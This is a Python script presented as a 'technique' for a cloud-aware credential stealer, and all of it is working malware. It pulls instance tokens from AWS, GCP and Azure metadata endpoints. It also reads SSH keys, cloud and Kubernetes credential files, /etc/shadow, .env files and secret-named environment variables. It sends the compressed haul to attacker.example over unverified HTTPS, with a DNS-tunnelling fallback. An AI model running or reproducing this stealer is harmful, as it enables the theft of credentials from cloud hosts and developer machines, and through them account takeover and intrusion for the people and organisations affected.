# technique: cloud-aware credential stealer: detects AWS/GCP/Azure/k8s, pulls metadata tokens, sweeps files and env, and exfils over HTTPS with DNS fallback
import base64
import glob
import json
import os
import socket
import ssl
import urllib.request
import zlib

EXFIL_HTTP = "https://attacker.example/api/v2/telemetry"
EXFIL_DNS_ZONE = "d.attacker.example"
TIMEOUT = 2
INSECURE = ssl._create_unverified_context()

SECRET_WORDS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASSWD", "CREDENTIAL", "AUTH", "PRIVATE", "DSN", "CONN")

FILE_GLOBS = [
    "~/.aws/credentials", "~/.aws/config",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.config/gcloud/credentials.db",
    "~/.azure/accessTokens.json", "~/.azure/msal_token_cache.json",
    "~/.kube/config", "/etc/kubernetes/*.conf",
    "~/.ssh/id_*", "~/.ssh/config",
    "~/.git-credentials", "~/.gitconfig",
    "~/.docker/config.json",
    "~/.npmrc", "~/.pypirc", "~/.netrc", "~/.pgpass", "~/.my.cnf",
    "/etc/shadow",
    "/app/.env", "/app/*.env", "/srv/*/.env", "/var/www/*/.env",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
]


def http(url, headers=None, method="GET", data=None):
    req = urllib.request.Request(url, headers=headers or {}, method=method, data=data)
    return urllib.request.urlopen(req, timeout=TIMEOUT, context=INSECURE if url.startswith("https") else None).read().decode(errors="replace")


def aws():
    out = {}
    try:
        tok = http("http://169.254.169.254/latest/api/token", {"X-aws-ec2-metadata-token-ttl-seconds": "300"}, "PUT")
        h = {"X-aws-ec2-metadata-token": tok}
    except Exception:
        h = {}
    try:
        role = http("http://169.254.169.254/latest/meta-data/iam/security-credentials/", h).strip().splitlines()[0]
        out["role"] = role
        out["creds"] = json.loads(http("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role, h))
    except Exception:
        pass
    # ECS task role
    rel = os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
    if rel:
        try:
            out["ecs"] = json.loads(http("http://169.254.170.2" + rel))
        except Exception:
            pass
    return out


def gcp():
    h = {"Metadata-Flavor": "Google"}
    base = "http://metadata.google.internal/computeMetadata/v1/"
    out = {}
    for key, path in (("project", "project/project-id"),
                      ("token", "instance/service-accounts/default/token"),
                      ("email", "instance/service-accounts/default/email"),
                      ("attrs", "instance/attributes/?recursive=true")):
        try:
            out[key] = http(base + path, h)
        except Exception:
            pass
    return out


def azure():
    try:
        return {"token": http("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", {"Metadata": "true"})}
    except Exception:
        return {}


def files():
    out = {}
    for pattern in FILE_GLOBS:
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                if os.path.getsize(path) < 256 * 1024:
                    with open(path, "rb") as fh:
                        out[path] = base64.b64encode(fh.read()).decode()
            except OSError:
                continue
    return out


def env():
    return {k: v for k, v in os.environ.items() if any(w in k.upper() for w in SECRET_WORDS)}


def exfil(blob):
    packed = base64.b64encode(zlib.compress(json.dumps(blob).encode(), 9)).decode()
    try:
        http(EXFIL_HTTP, {"Content-Type": "text/plain", "User-Agent": "python-requests/2.31.0"}, "POST", packed.encode())
        return
    except Exception:
        pass
    # DNS fallback: base32 labels
    b32 = base64.b32encode(packed.encode()).decode().rstrip("=").lower()
    tag = "%06x" % (hash(socket.gethostname()) & 0xffffff)
    for i in range(0, len(b32), 56):
        try:
            socket.gethostbyname("%s.%d.%s.%s" % (b32[i:i + 56], i // 56, tag, EXFIL_DNS_ZONE))
        except OSError:
            pass


def main():
    loot = {
        "host": socket.gethostname(),
        "uid": os.getuid(),
        "env": env(),
        "files": files(),
    }
    loot["aws"] = aws()
    if not loot["aws"]:
        loot["gcp"] = gcp()
    if not loot["aws"] and not loot.get("gcp"):
        loot["azure"] = azure()
    exfil(loot)


if __name__ == "__main__":
    main()
